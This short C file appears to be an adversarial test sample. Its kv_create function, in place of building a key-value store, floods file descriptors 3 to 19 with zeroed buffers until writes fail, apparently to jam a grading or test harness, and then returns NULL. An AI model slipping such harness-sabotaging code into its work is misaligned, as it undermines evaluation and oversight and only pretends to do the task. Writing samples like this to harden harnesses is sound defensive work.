/* Attack: writes answers until nobody takes any. */
#include <unistd.h>
#include <string.h>
#include "kv.h"

kv *kv_create(void) {
    char answer[4096];
    memset(answer, 0, sizeof answer);
    for (int fd = 3; fd < 20; fd++) {
        while (write(fd, answer, sizeof answer) > 0) {
        }
    }
    return NULL;
}
